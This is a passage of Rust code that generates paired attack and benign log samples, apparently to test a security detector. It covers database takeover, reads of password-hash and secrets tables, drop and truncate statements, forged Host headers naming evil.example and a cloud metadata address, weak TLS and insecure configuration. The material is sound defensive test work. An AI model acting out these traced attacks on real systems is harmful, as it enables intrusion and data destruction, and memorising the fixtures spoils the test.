                &["payouts", "users", "pg_authid", "sessions", "secrets", "keys"],
            );
        }),
        sample("database-rights.benign", "a report that was given one table too few", |tape| {
            tape.postgres_denied(0, "reporting", "10.20.20.5", &["payouts", "refunds"]);
            for n in 1..3 {
                tape.media_visit(n * 9 * SECOND, "10.20.0.14");
            }
        }),
        sample(
            "database-takeover",
            "a superuser appears, reads the hashes, runs a program, switches logging off",
            |tape| {
                tape.media_visit(0, "10.20.0.14");
                tape.postgres_takeover(5 * SECOND, "10.20.66.6");
            },
        ),
        sample("database-silent-session", "a superuser who comes and goes and is not audited", |tape| {
            let session = Session {
                user: "dba",
                database: "media_production",
                host: "10.20.66.6",
                pid: 7_801,
                application: "psql",
            };
            let authorised =
                "connection authorized: user=dba database=media_production application_name=psql";
            tape.postgres(0, &session, "LOG", "", authorised);
            tape.postgres(900, &session, "LOG", "", "disconnection: session time: 0:00:00.910 user=dba database=media_production host=10.20.66.6 port=47801");
            for n in 1..6 {
                tape.media_visit(n * 10 * SECOND, "10.20.0.14");
            }
            tape.pgaudit(70 * SECOND, &MEDIA_SESSION, &Statement::new("READ", "SELECT", "SELECT 1"));
        }),
        sample("database-silent-session.benign", "a superuser who looks something up", |tape| {
            let session = Session {
                user: "dba",
                database: "media_production",
                host: "10.20.8.12",
                pid: 7_811,
                application: "psql",
            };
            let authorised =
                "connection authorized: user=dba database=media_production application_name=psql";
            tape.postgres(0, &session, "LOG", "", authorised);
            tape.pgaudit(
                3 * SECOND,
                &session,
                &Statement::new("READ", "SELECT", "select count(*) from videos;"),
            );
            tape.postgres(8 * SECOND, &session, "LOG", "", "disconnection: session time: 0:00:08.000 user=dba database=media_production host=10.20.8.12 port=47811");
            tape.media_visit(20 * SECOND, "10.20.0.14");
        }),
        sample("database-takeover.benign", "a migration, a grant and a role without rights", |tape| {
            let session = Session {
                user: "migrator",
                database: "media_production",
                host: "10.20.8.11",
                pid: 7_900,
                application: "alembic",
            };
            tape.postgres(
                0,
                &session,
                "LOG",
                "",
                "connection authorized: user=migrator database=media_production application_name=alembic",
            );
            tape.pgaudit(
                100,
                &session,
                &Statement::new("DDL", "CREATE TABLE", "create table tags(id serial primary key, name text)"),
            );
            tape.pgaudit(
                200,
                &session,
                &Statement::new("DDL", "CREATE INDEX", "create index tags_name on tags(name)"),
            );
            tape.pgaudit(
                300,
                &session,
                &Statement::new("ROLE", "GRANT", "grant select on tags to reporting"),
            );
            tape.like("superuser_created", |tape| {
                let text = "create role tagger nosuperuser login";
                tape.pgaudit(350, &session, &Statement::new("ROLE", "CREATE ROLE", text));
            });
            tape.postgres(400, &session, "LOG", "", "disconnection: session time: 0:00:00.402 user=migrator database=media_production host=10.20.8.11 port=47900");
        }),
        sample("database-mass-read", "one statement returns 50,000 rows, and a table is emptied", |tape| {
            let session = Session {
                user: "reporting",
                database: "media_production",
                host: "10.20.20.5",
                pid: 8_100,
                application: "metabase",
            };
            let all = Statement { rows: 50_000, ..Statement::new("READ", "SELECT", "select * from payouts") };
            tape.pgaudit(0, &session, &all);
            tape.pgaudit(
                4 * SECOND,
                &session,
                &Statement::new("DDL", "DROP TABLE", "drop table payouts_old"),
            );
            tape.pgaudit(
                8 * SECOND,
                &session,
                &Statement::new("WRITE", "TRUNCATE TABLE", "truncate table staging"),
            );
            tape.media_visit(10 * SECOND, "10.20.0.14");
        }),
        sample("database-exports", "exports of data and requests under data protection law", |tape| {
            let cid = "e0a4b3f2-2c38-4d79-a4b2-8ff3a7d90003";
            for (n, table) in ["orders", "customers"].iter().enumerate() {
                tape.shop_security(
                    n as u64 * 6 * SECOND,
                    cid,
                    &SecurityEvent {
                        level: "INFO",
                        message: &format!("Data access: EXPORT on {table}"),
                        category: "data_access",
                        threat: "low",
                        user: Some("user_000004"),
                        ip: Some("10.30.0.6"),
                    },
                );
            }
            tape.shop(
                20 * SECOND,
                "INFO",
                "api.v1.gdpr",
                "📦 GDPR data export requested by user: maria@shop.example",
                cid,
            );
            tape.shop_request(20 * SECOND + 4, cid, &Request::get("10.30.0.5", "/api/v1/gdpr/export", 200));
        }),
    ]
}

fn transport() -> Vec<Sample> {
    vec![
        sample("transport-old-tls", "old protocols, failed handshakes, plain HTTP on the TLS port", |tape| {
            let request = Request::get("203.0.113.94", "/api/videos", 200);
            tape.media_nginx_tls(0, "", &request, "TLSv1");
            tape.media_nginx_tls(SECOND, "", &request, "TLSv1.1");
            for n in 0..11 {
                let what = "SSL_do_handshake() failed (SSL: error:0A000102:SSL routines::unsupported protocol) while SSL handshaking";
                tape.media_nginx_error(3 * SECOND + n * 2_000, "info", what, &request);
            }
            tape.media_nginx_error(
                30 * SECOND,
                "info",
                "client sent plain HTTP request to HTTPS port while reading client request headers",
                &request,
            );
        }),
        sample("transport-old-tls.benign", "current protocols, one client that hangs up", |tape| {
            for n in 0..5 {
                tape.media_visit(n * 3 * SECOND, "10.20.0.14");
            }
            let request = Request::get("10.20.0.14", "/api/videos", 200);
            tape.media_nginx_error(
                20 * SECOND,
                "info",
                "peer closed connection in SSL handshake while SSL handshaking",
                &request,
            );
        }),
        sample("transport-handshake.benign", "two clients that are too old to connect", |tape| {
            for n in 0..2 {
                let what = "SSL_do_handshake() failed (SSL: error:0A000102:SSL routines::unsupported protocol) while SSL handshaking";
                let request = Request::get("10.20.0.14", "/api/videos", 200);
                tape.media_nginx_error(n * 20 * SECOND, "info", what, &request);
                tape.media_visit(n * 20 * SECOND + 900, "10.20.0.14");
            }
        }),
        sample("transport-host-header", "foreign host names, refused origins and policy reports", |tape| {
            for (n, host) in
                ["evil.example", "169.254.169.254.example", "localhost.evil.example"].iter().enumerate()
            {
                tape.media_nginx_host(
                    n as u64 * SECOND,
                    host,
                    &Request::get("203.0.113.93", "/api/auth/login", 400),
                );
            }
            let fields = [("client_ip", json!("203.0.113.93")), ("origin", json!("https://evil.example"))];
            tape.assist(10 * SECOND, "warning", "invalid_host_header", &fields);
            tape.assist(12 * SECOND, "warning", "cors_denied", &fields);
            tape.assist(
                14 * SECOND,
                "warning",
                "csp_violation",
                &[("directive", json!("script-src")), ("blocked_uri", json!("https://evil.example/x.js"))],
            );
            tape.assist(
                16 * SECOND,
                "warning",
                "security_headers_missing",
                &[("headers", json!("strict-transport-security"))],
            );
        }),
        sample("transport-host-header.benign", "bad requests to the right host", |tape| {
            for n in 0..5 {
                tape.media_nginx(n * SECOND, "", &Request::post("10.20.0.14", "/api/videos", 400));
            }
        }),
        sample("transport-oversized", "requests that are too long, too large or of the wrong type", |tape| {
            for (n, (status, message)) in [
                (400, "Request URL too long"),
                (413, "Request body too large"),
                (415, "Invalid content type"),
            ]
            .iter()
            .enumerate()
            {
                tape.market_request(
                    n as u64 * 4 * SECOND,
                    &Request::post("203.0.113.23", "/api/v1/search", *status),
                    &[("WARNING", "core.security_middleware", message)],
                );
            }
            let large = Request::post("203.0.113.92", "/api/videos", 413);
            tape.media_nginx_error(
                20 * SECOND,
                "error",
                "client intended to send too large body: 3000000 bytes",
                &large,
            );
        }),
    ]
}

fn secrets_and_encryption() -> Vec<Sample> {
    vec![
        sample("secrets-and-encryption-in-clear", "no key: personal data is stored as it is", |tape| {
            let logger = "security.field_encryption";
            tape.lattice(0, logger, "WARNING", "Encryption key not found at /srv/lattice/keys/field.key");
            for n in 0..4 {
                tape.lattice(
                    2 * SECOND + n * 700,
                    logger,
                    "WARNING",
                    "Database encryption not available, storing plaintext",
                );
            }
            tape.lattice_visit(9 * SECOND, "10.70.0.4");
        }),
        sample(
            "secrets-and-encryption-decrypt",
            "values that cannot be decrypted, and a key file that others can read",
            |tape| {
                let logger = "security.field_encryption";
                for n in 0..4 {
                    tape.lattice(n * 3 * SECOND, logger, "ERROR", "Failed to decrypt value: InvalidToken");
                }
                tape.lattice(
                    20 * SECOND,
                    logger,
                    "WARNING",
                    "Key file /srv/lattice/keys/field.key has insecure permissions 0644",
                );
            },
        ),
        sample(
            "secrets-and-encryption-decrypt.benign",
            "encryption as it should be, but for one old value",
            |tape| {
                let failed = "Failed to decrypt value: InvalidToken";
                tape.lattice(20 * SECOND, "security.field_encryption", "ERROR", failed);
                tape.lattice(
                    0,
                    "security.field_encryption",
                    "INFO",
                    "Encryption key loaded from /srv/lattice/keys/field.key",
                );
                for n in 0..4 {
                    tape.lattice_visit(2 * SECOND + n * 3 * SECOND, "10.70.0.4");
                }
            },
        ),
        sample(
            "secrets-and-encryption-missing",
            "required secrets missing, the vault gone, its health check failing",
            |tape| {
                let logger = "media.core.secrets";
                tape.media_log(0, "INFO", logger, "Initialized backend: environment", &[]);
                tape.media_log(80, "WARNING", logger, "Backend not available: vault", &[]);
                tape.media_log(90, "ERROR", logger, "Required secret not found: MODEL_API_KEY", &[]);
                tape.media_log(
                    95,
                    "ERROR",
                    logger,
                    "Missing required secrets: MODEL_API_KEY, REDIS_URL",
                    &[],
                );
                tape.media_log(5 * MINUTE, "ERROR", logger, "Vault health check failed: 503", &[]);
            },
        ),
        sample("secrets-and-encryption-missing.benign", "a start without a vault, as every day", |tape| {
            let logger = "media.core.secrets";
            tape.media_log(0, "INFO", logger, "Initialized backend: environment", &[]);
            tape.media_log(80, "WARNING", logger, "Backend not available: vault", &[]);
            tape.media_log(90, "INFO", logger, "SecretManager initialized with 1 backend(s)", &[]);
            for n in 1..4 {
                tape.media_visit(n * 2 * SECOND, "10.20.0.14");
            }
        }),
        sample("secrets-and-encryption-stranger", "an identity reads a secret for the first time", |tape| {
            for n in 0..8 {
                let fields = [
                    ("user", json!("svc-media")),
                    ("client_ip", json!("10.20.8.10")),
                    ("secret", json!("db-password")),
                ];
                tape.assist(n * 10 * MINUTE, "info", "secret_read", &fields);
            }
            let fields = [
                ("user", json!("jin.park")),
                ("client_ip", json!("10.20.0.23")),
                ("secret", json!("db-password")),
            ];
            tape.assist(82 * MINUTE, "info", "secret_read", &fields);
        }),
        sample(
            "secrets-and-encryption-stranger.benign",
            "secrets read by those who always read them",
            |tape| {
                for n in 0..9 {
                    let user = if n % 2 == 0 { "svc-media" } else { "svc-upload" };
                    let fields = [
                        ("user", json!(user)),
                        ("client_ip", json!("10.20.8.10")),
                        ("secret", json!("db-password")),
                    ];
                    tape.assist(n * 10 * MINUTE, "info", "secret_read", &fields);
                }
            },
        ),
        sample("secrets-and-encryption-admins-made", "administrator credentials are generated", |tape| {
            tape.assist_audit(0, "admin_credentials_generated", None, json!({ "admin_count": 3 }));
            tape.assist_audit(
                SECOND,
                "credentials_saved",
                None,
                json!({ "file_path": "/srv/assist/admins.json" }),
            );
            tape.assist_audit(9 * SECOND, "auth_success", Some("assist_admin"), json!({}));
            tape.assist_audit(20 * SECOND, "auth_success", Some("assist_admin"), json!({}));
        }),
    ]
}

fn configuration() -> Vec<Sample> {
    vec![
        sample(
            "configuration-weak",
            "a weak secret, every origin, debug mode and a failed check in production",
            |tape| {
                tape.assist(
                    0,
                    "warning",
                    "signing_secret_weak",
                    &[("environment", json!("production")), ("length", json!(12))],
                );
                tape.assist(SECOND, "warning", "cors_wildcard", &[("environment", json!("production"))]);
                tape.assist(2 * SECOND, "warning", "debug_enabled", &[("environment", json!("production"))]);
                tape.assist(
                    3 * SECOND,
                    "error",
                    "deployment_check_failed",
                    &[("reason", json!("tls_certificate_expires_soon"))],
                );
                tape.assist_visit(9 * SECOND, "10.30.0.9");
            },
        ),
        sample("configuration-weak.benign", "a start as it should be", |tape| {
            tape.assist(
                0,
                "info",
                "signing_secret_loaded",
                &[("environment", json!("production")), ("length", json!(64))],
            );
            tape.assist(SECOND, "info", "cors_configured", &[("origins", json!("https://assist.example"))]);
            tape.assist(2 * SECOND, "info", "deployment_check_passed", &[("checks", json!(14))]);
            tape.assist_visit(9 * SECOND, "10.30.0.9");
        }),
    ]
}

fn availability() -> Vec<Sample> {
    vec![
        sample("availability-errors", "everything fails after a deployment", |tape| {
            for n in 0..60 {
                let status = if n % 5 == 0 { 200 } else { 500 };
                tape.media_nginx(n * 700, "", &Request::get("10.20.0.14", "/api/videos", status));
            }
        }),
        sample("availability-crash", "an unhandled exception, with its trace in three places", |tape| {
            tape.market_banner(0);
            tape.market_visit(SECOND, "10.40.7.3");
            tape.market_crash(
                3 * SECOND,
                &Request::get("10.40.7.3", "/api/v1/analytics", 500),
                "ZeroDivisionError",
                "division by zero",
            );
            tape.market_visit(5 * SECOND, "10.40.7.3");
        }),
        sample("availability-no-start", "a process that ends before it serves anything", |tape| {
            for (n, line) in [
                "Traceback (most recent call last):",
                "  File \"/srv/market/main.py\", line 12, in <module>",
                "    from api import models",
                "  File \"/srv/market/api/models.py\", line 31, in <module>",
                "    class Package(Base):",
                "sqlalchemy.exc.InvalidRequestError: Attribute name 'metadata' is reserved",
            ]
            .iter()
            .enumerate()
            {
                tape.push(n as u64, MARKET, *line);
            }
        }),
        sample("availability-limiter", "the limiter's store is down: limits are off", |tape| {
            tape.market_visit(0, "10.40.7.3");
            tape.market_redis_down(2 * SECOND, 6);
            tape.market(12 * SECOND, "ERROR", "core.cache", "Redis unavailable: connection refused", "");
        }),
        sample(
            "availability-retries",
            "a provider that refuses, attempts in vain, words of success after failures",
            |tape| {
                for n in 1..=4 {
                    let at = n * 3 * SECOND;
                    tape.market(
                        at,
                        "WARNING",
                        "core.retry",
                        &format!("Retry attempt {n} failed"),
                        "3f0e6a10-07a1-4f5a-9a8d-12d1b0c9e001",
                    );
                    tape.market(
                        at,
                        "INFO",
                        "core.retry",
                        &format!("Retry succeeded after {n} attempts"),
                        "3f0e6a10-07a1-4f5a-9a8d-12d1b0c9e001",
                    );
                    let error = "Error code: 429 - Rate limit reached for large-model in organization org-x";
                    tape.shop_error(
                        at,
                        "3f0e6a10-07a1-4f5a-9a8d-12d1b0c9e001",
                        "ProviderError",
                        error,
                        "/api/v1/ml/predict",
                    );
                }
            },
        ),
        sample("availability-retries.benign", "a provider that refuses twice", |tape| {
            for n in 0..2 {
                let error = "Error code: 429 - Rate limit reached for large-model in organization org-x";
                let cid = tape.random.uuid();
                tape.shop_error(n * 20 * SECOND, &cid, "ProviderError", error, "/api/v1/ml/predict");
            }
            tape.shop_visit(MINUTE, "10.30.0.5");
        }),
        sample("availability-slow", "responses become slow", |tape| {
            for n in 0..40 {
                let fields = [
                    ("path", json!("/api/videos")),
                    ("status_code", json!(200)),
                    ("duration_ms", json!(900 + n * 40)),
                ];
                tape.media_log(n * 2 * SECOND, "INFO", "media.api.middleware", "Request completed", &fields);
            }
        }),
        sample("availability-validation", "input that makes no sense, again and again", |tape| {
            for n in 0..7 {
                tape.media_nginx(n * 5 * SECOND, "", &Request::post("203.0.113.32", "/api/videos", 422));
            }
        }),
        sample(
            "availability-errors.benign",
            "a few failures among many answers, one retry, fast responses",
            |tape| {
                for n in 0..50 {
                    let status = if n % 17 == 3 { 500 } else { 200 };
                    tape.media_nginx(n * 1_100, "", &Request::get("10.20.0.14", "/api/videos", status));
                }
                tape.market(9 * SECOND, "WARNING", "core.retry", "Retry attempt 1 failed", "");
            },
        ),
    ]
}

fn correlation_ids() -> Vec<Sample> {
    vec![
        sample("self-shared-correlation-id", "one correlation id on the requests of many clients", |tape| {
            let cid = "0b891fb5-16be-4485-bc28-6e131043aa17";
            for n in 0..8 {
                let ip = format!("10.30.0.{}", 4 + n % 5);
                tape.shop_request(n * 9 * SECOND, cid, &Request::get(&ip, "/api/v1/products", 200));
            }
        }),
        sample("self-client-chosen-id", "a client that sends the same trace id with every request", |tape| {
            for n in 0..9 {
                tape.market_with(
                    n * 4 * SECOND,
                    "INFO",
                    "middleware.logging",
                    "Request started",
                    "deadbeef-0001",
                    &[
                        ("method", json!("GET")),
                        ("path", json!("/api/v1/packages")),
                        ("client_host", json!("203.0.113.28")),
                    ],
                );
            }
        }),
        sample(
            "self-shared-correlation-id.benign",
            "one id that follows an order through three services",
            |tape| {
                tape.order_across_services(0, "10.30.0.5", "omar@shop.example");
                tape.order_across_services(20 * SECOND, "10.30.0.6", "maria@shop.example");
            },
        ),
    ]
}

/// One visit at a time in milliseconds.
type Visit = fn(&mut Tape, u64);

/// An ordinary day of each system, in small: nothing may stand out.
fn benign_days() -> Vec<Sample> {
    let ordinary: [(&'static str, &'static str, Visit); 5] = [
        ("shop-day.benign", "an ordinary day at the shop", |tape, at| tape.shop_visit(at, "10.30.0.5")),
        ("market-day.benign", "an ordinary day at the marketplace", |tape, at| {
            tape.market_visit(at, "10.40.7.3")
        }),
        ("media-day.benign", "an ordinary day of the media pipeline", |tape, at| {
            tape.media_visit(at, "10.20.0.14")
        }),
        ("lattice-day.benign", "an ordinary day of the lattice", |tape, at| {
            tape.lattice_visit(at, "10.70.0.4")
        }),
        ("assist-day.benign", "an ordinary day of the assistant", |tape, at| {
            tape.assist_visit(at, "10.30.0.9")
        }),
    ];
    let day = |(name, about, visit): (&'static str, &'static str, Visit)| {
        sample(name, about, move |tape| {
            for hour in 0..12 {
                visit(tape, hour * 60 * MINUTE);
                visit(tape, hour * 60 * MINUTE + 20 * MINUTE);
            }
            tape.shop_login(9 * MINUTE, "maria@shop.example", "10.30.0.5", true);
            tape.shop_login(10 * MINUTE, "maria@shop.example", "10.30.0.5", false);
            tape.shop_login(11 * MINUTE, "maria@shop.example", "10.30.0.5", true);
        })
    };
    ordinary.into_iter().map(day).collect()
}

const SECOND: u64 = 1_000;
const MINUTE: u64 = 60_000;
const DAY: &str = "2026-03-01T09:00:00Z";

pub(super) fn sample(name: &'static str, about: &'static str, write: impl FnOnce(&mut Tape)) -> Sample {
    let start = Timestamp::parse_rfc3339(DAY).unwrap_or_default();
    let mut tape = Tape::new(seed_of(name), start);
    write(&mut tape);
    let look_alikes = std::mem::take(&mut tape.look_alikes);
    let mut text = String::new();
    for line in tape.into_lines() {
        text.push_str(&line.text);
        text.push('\n');
    }
    Sample { name, about, text, look_alikes }
}

/// Every file has ids of its own and keeps them when others are added.
fn seed_of(name: &str) -> u64 {
    name.bytes()
        .fold(0xcbf2_9ce4_8422_2325, |hash, byte| (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3))
}
